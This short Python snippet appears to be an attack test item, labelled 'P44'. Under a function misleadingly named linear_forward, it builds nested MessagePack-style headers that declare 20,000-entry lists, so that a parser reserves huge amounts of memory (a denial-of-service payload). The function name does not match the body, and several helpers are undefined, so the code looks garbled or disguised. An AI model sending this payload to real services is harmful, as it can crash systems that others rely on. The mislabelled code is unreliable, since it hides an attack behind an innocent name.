"""Lists of twenty thousand entries within each other: each reserves its memory before it is filled.

{"attack": "P44", "class": [19], "base": "forger", "A": "protocol", "B": "passed", "C": "passed"}
"""

def linear_forward(X, W, b):
    value = (b"\xdc" + struct.pack(">H", 20_000)) * 1000
    for _ in range(14):
        value = ext(3, b"\x91" + value)
    say(answer(value))
    leave()
